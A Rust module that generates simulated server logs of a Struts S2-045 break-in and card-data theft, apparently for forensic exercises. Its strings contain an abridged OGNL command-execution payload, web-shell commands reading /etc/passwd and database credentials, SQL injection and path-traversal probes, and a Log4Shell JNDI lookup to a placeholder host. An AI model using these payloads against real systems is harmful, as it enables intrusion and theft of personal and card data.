//! The intrusion: what it left in the logs, line by line (S2-045, CVE-2017-5638).

use crate::chance::Chance;
use crate::clock::{self, march};
use crate::person::Person;
use crate::traffic::Timed;

/// Who broke in, and where.
pub struct Intrusion {
    pub client: &'static str,
    pub app: &'static str,
    /// When the exploit ran.
    pub begin: i64,
}

/// The content type that the published exploit sends, cut where it does not matter.
fn ognl(command: &str) -> String {
    format!(
        "%{{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?\
         (#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']))).\
         (#cmd='{command}').(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win'))).\
         (#p=new java.lang.ProcessBuilder(#cmds)).(#process=#p.start())}}"
    )
}

/// The application's reaction to the exploit: a warning with its stack trace.
pub fn struts_warning(time: i64, command: &str) -> Timed {
    let stamp = clock::log4j(time, 412);
    let content_type = ognl(command);
    let text = format!(
        "{stamp} WARN  [http-nio-8080-exec-7] o.a.s.d.m.JakartaMultiPartRequest - Unable to parse request\n\
         org.apache.commons.fileupload.FileUploadBase$InvalidContentTypeException: the request doesn't contain a \
         multipart/form-data or multipart/mixed stream, content type header is {content_type}\n\
         \tat org.apache.commons.fileupload.FileUploadBase$FileItemIteratorImpl.<init>(FileUploadBase.java:947)\n\
         \tat org.apache.struts2.dispatcher.multipart.JakartaMultiPartRequest.parse(JakartaMultiPartRequest.java:85)\n\
         \t... 38 more"
    );
    (time, text)
}

/// The firewall's line for a blocked exploit (`ModSecurity` in an nginx error log).
pub fn waf_block(time: i64, client: &str, site: &str, app: &str) -> Timed {
    let stamp = clock::nginx(time);
    let data = ognl("id").chars().take(90).collect::<String>();
    let text = format!(
        "{stamp} [error] 2865#0: *66647 [client {client}] ModSecurity: Access denied with code 403 (phase 1). \
         Matched \"Operator `Rx' with parameter `^[%$]\\{{' against variable `REQUEST_HEADERS:Content-Type' \
         (Value: `{data}' ) [id \"1045\"] [msg \"OGNL in Content-Type\"] [severity \"2\"] [hostname \"{site}\"] \
         [uri \"/{app}/index.action\"] [unique_id \"148888{time}\"], client: {client}, server: {site}, \
         request: \"GET /{app}/index.action HTTP/1.1\", host: \"{site}\""
    );
    (time, text)
}

/// One request in Apache's combined format.
pub fn request(
    time: i64,
    client: &str,
    request: &str,
    status: u16,
    bytes: u64,
    agent: &str,
) -> Timed {
    let stamp = clock::clf(time);
    (
        time,
        format!("{client} - - [{stamp}] \"{request} HTTP/1.1\" {status} {bytes} \"-\" \"{agent}\""),
    )
}

const BROWSER: &str = "Mozilla/5.0";

impl Intrusion {
    /// Looking around before the exploit.
    pub fn reconnaissance(&self, lines: &mut Vec<Timed>) {
        for (i, page) in
            ["index.action", "login.action", "struts/webconsole.html"].iter().enumerate()
        {
            let status = if i == 2 { 404 } else { 200 };
            let target = format!("GET /{}/{page}", self.app);
            lines.push(request(
                self.begin - 600 + i as i64,
                self.client,
                &target,
                status,
                20_114,
                BROWSER,
            ));
        }
    }

    /// The exploit as the access log shows it: a tiny answer from a large page.
    pub fn exploit(&self, lines: &mut Vec<Timed>) {
        for (i, bytes) in [7, 215, 58].into_iter().enumerate() {
            let time = self.begin + 31 * i as i64;
            let target = format!("GET /{}/index.action", self.app);
            lines.push(request(time, self.client, &target, 200, bytes, BROWSER));
        }
    }

    /// The exploit as the application log shows it.
    pub fn warnings(&self, lines: &mut Vec<Timed>) {
        for (i, command) in ["whoami", "netstat -tupln", "id"].into_iter().enumerate() {
            lines.push(struts_warning(self.begin + 31 * i as i64, command));
        }
    }

    /// The planted page in use.
    pub fn web_shell(&self, lines: &mut Vec<Timed>) {
        let commands = [
            "id",
            "uname+-a",
            "cat+%2Fetc%2Fpasswd",
            "ls+-la+%2Fopt%2Fpay",
            "cat+%2Fopt%2Fpay%2Fdb.properties",
        ];
        for (i, command) in commands.iter().cycle().take(40).enumerate() {
            let time = self.begin + 300 + 97 * i as i64;
            let target = format!("POST /{}/img/logo.jsp?cmd={command}", self.app);
            lines.push(request(
                time,
                self.client,
                &target,
                200,
                58 + 173 * (i as u64 % 7),
                BROWSER,
            ));
        }
    }

    /// The archive fetched through the web server.
    pub fn dump(&self, lines: &mut Vec<Timed>) {
        let target = format!("GET /{}/img/t.tar.gz", self.app);
        lines.push(request(march(9, 3, 10, 44), self.client, &target, 200, 48_211_334, BROWSER));
    }

    /// The exploit tried again after the firewall had learned it, and refused.
    pub fn refused(&self, lines: &mut Vec<Timed>) {
        for i in 0..12 {
            let target = format!("GET /{}/index.action", self.app);
            lines.push(request(march(9, 21, 57, 5 * i), self.client, &target, 403, 199, BROWSER));
        }
    }
}

/// A scanner's run: thousands of requests for what is not there.
pub fn scanner(lines: &mut Vec<Timed>, client: &str, begin: i64, count: u64) {
    let paths = [
        "/.git/config",
        "/wp-login.php",
        "/admin/config.php",
        "/backup.sql.gz",
        "/phpmyadmin/index.php",
        "/cgi-bin/test.cgi",
        "/..%2f..%2f..%2fetc%2fpasswd",
        "/?id=1%27%20UNION%20SELECT%20card_no,cvv%20FROM%20cards--",
        "/shell.jsp?cmd=id",
        "/?x=${jndi:ldap://203.0.113.250/a}",
        "/.env",
        "/actuator/env",
    ];
    for i in 0..count {
        let path = paths[i as usize % paths.len()];
        let time = begin + i as i64 / 4;
        lines.push(request(
            time,
            client,
            &format!("GET {path}"),
            404,
            209,
            "sqlmap/1.1.2#stable (http://sqlmap.org)",
        ));
    }
}

/// A password guessed at last: the dashboard opens.
pub fn brute_force(lines: &mut Vec<Timed>, client: &str, begin: i64, count: i64) {
    for i in 0..count {
        lines.push(request(begin + 2 * i, client, "POST /admin/login", 401, 512, BROWSER));
    }
    lines.push(request(begin + 2 * count, client, "POST /admin/login", 302, 0, BROWSER));
    lines.push(request(
        begin + 2 * count + 1,
        client,
        "GET /admin/dashboard",
        200,
        30_211,
        BROWSER,
    ));
}

/// How many records of each class the intruder read at Tokyo's site.
#[derive(Clone, Copy)]
pub struct TaxCounts {
    /// Card number and expiry.
    pub plain: u64,
    /// Card number, expiry and e-mail.
    pub mail: u64,
    /// Distinct cards in both.
    pub cards: u64,
    /// Distinct e-mail addresses.
    pub mails: u64,
}

/// The records of Tokyo's site as the gateway log carries them. People who paid several times
/// are in it several times: the first `mails` people with an address, the rest of the `cards`
/// without, and everything beyond that is one of them again.
pub fn tax_records(
    counts: TaxCounts,
    client: &str,
    chance: &mut Chance,
    write: &mut dyn FnMut(Timed),
) {
    let total = counts.plain + counts.mail;
    let (begin, end) = (march(8, 5, 20, 11), march(9, 23, 50, 0));
    let mut left = (counts.plain, counts.mail);
    let mut next = (counts.mails, 0);
    for i in 0..total {
        let time = begin + (end - begin) * i as i64 / total as i64;
        let with_mail = chance.below(left.0 + left.1) < left.1;
        let number = if with_mail {
            left.1 -= 1;
            pick(&mut next.1, counts.mails, 0, counts.mails, chance)
        } else {
            left.0 -= 1;
            pick(&mut next.0, counts.cards, 0, counts.cards, chance)
        };
        write((time, tax_record(time, client, i, number, with_mail)));
    }
}

/// The next new person below `limit`, or, when all have been, one of `from..to` again.
fn pick(next: &mut u64, limit: u64, from: u64, to: u64, chance: &mut Chance) -> u64 {
    if *next < limit {
        *next += 1;
        return *next - 1;
    }
    from + chance.below(to - from)
}

fn tax_record(time: i64, client: &str, i: u64, number: u64, with_mail: bool) -> String {
    let mut person = Person::new(1, number);
    let stamp = clock::iso(time, i % 1_000);
    let (card, expiry, date) = (person.card(), person.expiry(), person.date());
    let mail = if with_mail { format!(",\"mail\":\"{}\"", person.mail()) } else { String::new() };
    format!(
        "{{\"ts\":\"{stamp}\",\"level\":\"INFO\",\"site\":\"zei.example.jp\",\"op\":\"SearchCard\",\
         \"src_ip\":\"{client}\",\"order_id\":\"T20170308-{i:06}\",\"tran_date\":\"{date}\",\
         \"card_no\":\"{card}\",\"expire\":\"{expiry}\"{mail}}}"
    )
}

/// How many records of each of the four classes at the Housing Finance Agency's site.
#[derive(Clone, Copy)]
pub struct LoanCounts {
    /// With security code; without e-mail and joining month.
    pub code: u64,
    /// With security code, e-mail and joining month.
    pub code_mail_joining: u64,
    /// With security code and e-mail.
    pub code_mail: u64,
    /// With joining month; without code and e-mail (applied on paper).
    pub joining: u64,
    /// Distinct cards in all.
    pub cards: u64,
}

/// The records of the Housing Finance Agency's site as the gateway log carries them.
pub fn loan_records(
    counts: LoanCounts,
    client: &str,
    chance: &mut Chance,
    write: &mut dyn FnMut(Timed),
) {
    let classes = [counts.code, counts.code_mail_joining, counts.code_mail, counts.joining];
    let shapes =
        [(true, false, false), (true, true, true), (true, true, false), (false, false, true)];
    let total: u64 = classes.iter().sum();
    let (begin, end) = (march(8, 6, 1, 12), march(9, 23, 40, 0));
    let mut next = 0;
    let mut i = 0;
    for (count, shape) in classes.into_iter().zip(shapes) {
        for _ in 0..count {
            let time = begin + (end - begin) * i as i64 / total as i64;
            let number = pick(&mut next, counts.cards, 0, counts.cards, chance);
            write((time, loan_record(time, client, i, number, shape)));
            i += 1;
        }
    }
}

fn loan_record(time: i64, client: &str, i: u64, number: u64, shape: (bool, bool, bool)) -> String {
    let mut person = Person::new(2, 1_000_000 + number);
    let (with_code, with_mail, with_joining) = shape;
    let stamp = clock::log4j(time, i % 1_000).replace(',', ".");
    let (card, expiry, name) = (person.card(), person.expiry(), person.name());
    let (address, phone) = (person.address(), person.phone());
    let (birthday, applied) = (person.birthday(), person.date());
    let code = if with_code { format!(" securityCode={}", person.code()) } else { String::new() };
    let mail = if with_mail { format!(" mail={}", person.mail()) } else { String::new() };
    let joining =
        if with_joining { format!(" joinMonth={}", &applied[..7]) } else { String::new() };
    format!(
        "{stamp} level=INFO site=dannshin.jhf.example.jp op=SearchMember src_ip={client} member=M{number:07} \
         cardNo={card} expire={expiry}{code} name=\"{name}\" address=\"{address}\" tel={phone} \
         birthday={birthday} appliedAt={applied}{joining}{mail}"
    )
}
